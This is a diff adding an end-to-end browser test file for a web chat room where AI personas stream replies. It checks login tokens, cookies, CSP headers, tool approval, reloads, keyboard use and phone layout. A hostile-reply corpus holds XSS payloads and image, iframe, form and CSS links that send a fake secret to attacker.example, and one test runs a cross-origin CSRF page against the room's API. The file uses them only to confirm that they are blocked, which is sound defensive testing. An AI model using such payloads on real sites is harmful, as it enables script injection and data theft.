@@ -1,0 +1,264 @@
+// The web room in Chromium, through `org web` as a user starts it, against the scripted model server: the login and
+// the auth, two personas streaming at once, an approval answered, a reload mid-reply, the keyboard, the phone, and a
+// corpus of hostile replies that runs nothing and sends nothing out (issue 53). One browser and one org web for all.
+import { afterAll, beforeAll, describe, expect, test } from "bun:test";
+import { join } from "node:path";
+import type { Page } from "playwright-core";
+import { screenshotsDir, startWebRoom, type WebRoomFixture } from "../testing/web-room-fixture.ts";
+import { waitUntil } from "../testing/wait-until.ts";
+
+const LONG = "Agent writes a careful answer word by word for the watchers. ".repeat(8).trim();
+const BESIDE = "Python answers beside agent at the very same time in its own lane. ".repeat(8).trim();
+const STORY = "Once upon a time a reply kept streaming while the page went away and came back. ".repeat(10).trim();
+
+// Everything a model might write to get a script run or a request out of the page.
+const HOSTILE = [
+  "Hostile corpus follows.",
+  '<script>window.__pwned = "script"</script>',
+  '<img src="x" onerror="window.__pwned = \'img\'">',
+  "[click me](javascript:window.__pwned='link')",
+  "![exfil](https://attacker.example/leak?secret=sk-abc)",
+  '<iframe src="https://attacker.example/frame"></iframe>',
+  '<svg onload="window.__pwned = \'svg\'"><circle r="1"/></svg>',
+  "<style>body { background: url(https://attacker.example/css) }</style>",
+  '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
+  '<form action="https://attacker.example/form"><button>go</button></form>',
+  '<link rel="stylesheet" href="https://attacker.example/x.css">',
+  '<object data="https://attacker.example/object"></object>',
+  '<div style="background:url(https://attacker.example/style)" onclick="window.__pwned=\'div\'">styled</div>',
+  "[a fine link](https://example.org/fine)",
+].join("\n\n");
+
+const SCRIPT = {
+  rules: [
+    { when: { persona: "agent", lastMessage: "both" }, reply: { text: LONG, chunkSize: 4, delayMs: 40 } },
+    { when: { persona: "python", lastMessage: "both" }, reply: { text: BESIDE, chunkSize: 4, delayMs: 40 } },
+    { when: { persona: "agent", lastMessage: "list the lines" }, reply: { toolCalls: [{ name: "sh", arguments: { cmd: "seq 1 12 | sed 's/^/row /'" } }] } },
+    { when: { persona: "agent", lastTool: "sh" }, reply: { text: "The command printed twelve lines." } },
+    { when: { persona: "agent", lastMessage: "story" }, reply: { text: STORY, chunkSize: 5, delayMs: 60 } },
+    { when: { persona: "python", lastMessage: "endless" }, reply: { text: "and on ".repeat(400), chunkSize: 4, delayMs: 50 } },
+    { when: { persona: "agent", lastMessage: "hostile" }, reply: { reasoning: "<img src=x onerror=\"window.__pwned='thinking'\">", text: HOSTILE } },
+  ],
+  fallback: { text: "ok" },
+};
+
+const CONFIG = {
+  personas: [
+    { name: "agent", kind: "agent", tools: { sh: "ask" } },
+    { name: "python", kind: "python" },
+  ],
+  limits: { concurrencyPerServer: 4 },
+};
+
+let room: WebRoomFixture;
+let page: Page;
+/** Every request the page made, by URL. */
+const requests: string[] = [];
+
+beforeAll(async () => {
+  room = await startWebRoom({ script: SCRIPT, config: CONFIG });
+  ({ page } = await room.open());
+  page.on("request", (request) => requests.push(request.url()));
+}, 120_000);
+
+afterAll(async () => {
+  await room?.[Symbol.asyncDispose]();
+});
+
+const lane = (name: string) => page.getByRole("region", { name });
+const laneText = async (name: string) => (await lane(name).textContent()) ?? "";
+
+async function send(text: string): Promise<void> {
+  await page.getByText(/· live ·/).waitFor();
+  await page.getByRole("textbox", { name: "Message" }).fill(text);
+  await page.getByRole("button", { name: "Send" }).click();
+}
+
+describe("org web in Chromium", () => {
+  test("the URL it prints logs the browser in; without the token or its cookie every route is 401", async () => {
+    expect(room.stdout.trim().split("\n")).toHaveLength(1);
+    const token = new URL(room.loginUrl).searchParams.get("token") ?? "";
+    expect(token.length).toBeGreaterThan(30);
+    for (const path of ["/", "/changes", "/v1/sessions", "/v1/changes", "/assets/app.js", "/v1/web/updates"]) {
+      expect((await fetch(`${room.origin}${path}`)).status).toBe(401);
+    }
+    expect((await fetch(`${room.origin}/?token=not-the-token`)).status).toBe(401);
+    // Logged in: the address bar holds no token, the cookie is HttpOnly and SameSite=Strict, no script can read it.
+    expect(new URL(page.url()).pathname).toBe("/");
+    expect(new URL(page.url()).searchParams.has("token")).toBe(false);
+    const [cookie] = await page.context().cookies();
+    expect(cookie).toMatchObject({ httpOnly: true, sameSite: "Strict" });
+    expect(await page.evaluate("document.cookie")).toBe("");
+    const answer = await page.request.get(`${room.origin}/`);
+    const csp = answer.headers()["content-security-policy"] ?? "";
+    expect(csp).toContain("script-src 'self'");
+    expect(csp).not.toContain("unsafe-inline");
+    expect(csp).not.toContain("unsafe-eval");
+    expect(csp).toContain("img-src 'self'");
+    expect(csp).toContain("connect-src 'self'");
+    expect(csp).toContain("frame-ancestors 'none'");
+    expect(answer.headers()).toMatchObject({ "x-content-type-options": "nosniff", "referrer-policy": "no-referrer" });
+    expect(await page.content()).not.toContain(token);
+  });
+
+  test("two personas answer at once, each in its own lane, both growing in the same instant, then their figures", async () => {
+    await send("hello both of you");
+    // Both lanes hold part of their reply while both are still writing.
+    await waitUntil(
+      "both lanes growing at once",
+      async () => {
+        const [agent, python] = [await laneText("agent"), await laneText("python")];
+        return agent.includes("Agent writes") && python.includes("Python answers") && agent.includes("writing…") && python.includes("writing…");
+      },
+      30_000,
+    );
+    await waitUntil(
+      "both replies ended with their figures",
+      async () => /tokens\/s/.test(await laneText("agent")) && /tokens\/s/.test(await laneText("python")),
+      60_000,
+    );
+    expect(await laneText("agent")).toContain(LONG);
+    expect(await laneText("python")).toContain(BESIDE);
+    expect(await laneText("agent")).toMatch(/\d+ tokens · [\d.]+ tokens\/s · [\d.]+ s/);
+    await page.screenshot({ path: join(screenshotsDir(), "room.png") });
+  }, 120_000);
+
+  test("an approval is answered in the browser; the tool's first lines show, the whole output a click away", async () => {
+    await send("@agent list the lines please");
+    const approve = lane("agent").getByRole("button", { name: "Approve" });
+    await approve.waitFor({ timeout: 30_000 });
+    await expect(lane("agent").getByRole("button", { name: "Deny" }).isVisible()).resolves.toBe(true);
+    await approve.click();
+    await waitUntil("the reply after the tool", async () => (await laneText("agent")).includes("The command printed twelve lines."), 60_000);
+    const text = await laneText("agent");
+    expect(text).toContain("⚙ sh");
+    expect(text).toContain("row 1");
+    expect(text).not.toContain("row 12");
+    await lane("agent")
+      .getByRole("button", { name: /Show whole output/ })
+      .click();
+    expect(await laneText("agent")).toContain("row 12");
+    expect(text).toContain("answered yes by web");
+  }, 120_000);
+
+  test("a reload mid-reply loses nothing: the transcript comes back and the reply goes on streaming", async () => {
+    await send("@agent tell me a story");
+    await waitUntil("the story has begun", async () => (await laneText("agent")).includes("Once upon a time"), 30_000);
+    expect(await laneText("agent")).toContain("writing…");
+    await page.reload();
+    await waitUntil("the story back after the reload", async () => (await laneText("agent")).includes("Once upon a time"), 30_000);
+    await waitUntil("the story ended", async () => /tokens\/s/.test(await laneText("agent")), 60_000);
+    expect(await laneText("agent")).toContain(STORY);
+    // The earlier turns are in the transcript above the lanes.
+    expect(await page.getByText("hello both of you").count()).toBeGreaterThan(0);
+  }, 120_000);
+
+  test("keyboard only: Enter sends, Shift+Enter is a new line, Escape stops the replies, Tab reaches every button", async () => {
+    const box = page.getByRole("textbox", { name: "Message" });
+    await box.focus();
+    await page.keyboard.type("@python endless");
+    await page.keyboard.press("Shift+Enter");
+    await page.keyboard.type("please");
+    expect(await box.inputValue()).toBe("@python endless\nplease");
+    await page.keyboard.press("Enter");
+    await waitUntil("python writing", async () => (await laneText("python")).includes("and on"), 30_000);
+    await page.keyboard.press("Escape");
+    await waitUntil("python stopped", async () => !(await laneText("python")).includes("writing…"), 30_000);
+    // Every button of the page takes the focus by Tab alone.
+    const buttons = await page.getByRole("button").count();
+    const reached = new Set<string>();
+    await page.locator("body").focus();
+    for (let press = 0; press < 200 && reached.size < buttons; press += 1) {
+      await page.keyboard.press("Tab");
+      // Page code as a string: this file is typed without the DOM's names.
+      const focused = await page.evaluate('[...document.querySelectorAll("button")].indexOf(document.activeElement)');
+      if (typeof focused === "number" && focused >= 0) reached.add(String(focused));
+    }
+    expect(reached.size).toBe(buttons);
+  }, 120_000);
+
+  test("a hostile reply runs no script and sends no request out of the origin", async () => {
+    await send("@agent hostile please");
+    await waitUntil("the hostile reply shown", async () => (await laneText("agent")).includes("a fine link"), 30_000);
+    await page.locator("summary", { hasText: "Thinking" }).last().click();
+    await Bun.sleep(300);
+    expect(await page.evaluate("window.__pwned")).toBeUndefined();
+    // Page code as a string: this file is typed without the DOM's names.
+    const found = (await page.evaluate(`(() => {
+      const element = document.querySelector('[aria-label="agent"]');
+      return {
+        tags: [...element.querySelectorAll("script, img, iframe, svg, style, form, link, object, embed")].map((node) => node.tagName),
+        handlers: [...element.querySelectorAll("*")].flatMap((node) => [...node.attributes].filter((a) => a.name.startsWith("on")).map((a) => a.name)),
+        styles: element.querySelectorAll("[style]").length,
+        hrefs: [...element.querySelectorAll("a")].map((anchor) => anchor.getAttribute("href")),
+      };
+    })()`)) as { tags: string[]; handlers: string[]; styles: number; hrefs: (string | null)[] };
+    expect(found.tags).toEqual([]);
+    expect(found.handlers).toEqual([]);
+    expect(found.styles).toBe(0);
+    expect(found.hrefs.filter((href) => href !== null && !/^https?:/.test(href))).toEqual([]);
+    expect(await laneText("agent")).toContain("<script>");
+    expect(await laneText("agent")).toContain("[image: exfil] (https://attacker.example/leak?secret=sk-abc)");
+    expect(requests.filter((url) => !url.startsWith(room.origin))).toEqual([]);
+  }, 60_000);
+
+  test("a page on another origin gets 403 for a POST and has its event stream refused", async () => {
+    const sessions = (await (await page.request.get(`${room.origin}/v1/sessions`)).json()) as { sessions: { id: string }[] };
+    const session = sessions.sessions[0]?.id ?? "";
+    // A page elsewhere on loopback (the same site, so the SameSite cookie would go along).
+    const evil = Bun.serve({
+      hostname: "127.0.0.1",
+      port: 0,
+      fetch: () =>
+        new Response(
+          `<!doctype html><script>
+            fetch(${JSON.stringify(`${room.origin}/v1/sessions/${session}/messages`)}, { method: "POST", mode: "no-cors", credentials: "include", headers: { "content-type": "text/plain" }, body: '{"text":"from elsewhere"}' });
+            fetch(${JSON.stringify(`${room.origin}/v1/changes/undo`)}, { method: "POST", mode: "no-cors", credentials: "include", body: "{}" });
+            new EventSource(${JSON.stringify(`${room.origin}/v1/sessions/${session}/events`)}, { withCredentials: true });
+          </script>`,
+          { headers: { "content-type": "text/html" } },
+        ),
+    });
+    // The browser hides the answers from the page (and from playwright); the server's own count of them says 403.
+    const refused = async () => {
+      const metrics = await (await page.request.get(`${room.origin}/metrics`)).text();
+      const count = (route: string, method: string) =>
+        Number(
+          new RegExp(`org_http_requests_total\\{route="${route.replace(/[/:]/g, (c) => `\\${c}`)}",method="${method}",status="403"\\} (\\d+)`).exec(
+            metrics,
+          )?.[1] ?? 0,
+        );
+      return [count("/v1/sessions/:id/messages", "POST"), count("/v1/changes/undo", "POST"), count("/v1/sessions/:id/events", "GET")];
+    };
+    try {
+      const before = await refused();
+      const other = await page.context().newPage();
+      await other.goto(`http://127.0.0.1:${evil.port}/`);
+      await waitUntil("the three refusals", async () => (await refused()).every((count, index) => count > (before[index] ?? 0)), 20_000);
+      await other.close();
+    } finally {
+      await evil.stop(true);
+    }
+    expect(await laneText("agent")).not.toContain("from elsewhere");
+  }, 60_000);
+
+  test("on a phone (390 × 844) the room fits: no sideways scroll, the lanes stacked", async () => {
+    const phone = await room.open({ width: 390, height: 844 });
+    try {
+      await phone.page.getByRole("region", { name: "agent" }).waitFor();
+      const widths = (await phone.page.evaluate("({ scroll: document.documentElement.scrollWidth, client: document.documentElement.clientWidth })")) as {
+        scroll: number;
+        client: number;
+      };
+      expect(widths.scroll).toBeLessThanOrEqual(widths.client);
+      await phone.page.screenshot({ path: join(screenshotsDir(), "room-phone.png") });
+    } finally {
+      await phone.context.close();
+    }
+  }, 60_000);
+
+  test("the login token never reaches the log", async () => {
+    const token = new URL(room.loginUrl).searchParams.get("token") ?? "";
+    expect(await room.stop()).not.toContain(token);
+  }, 30_000);
+});
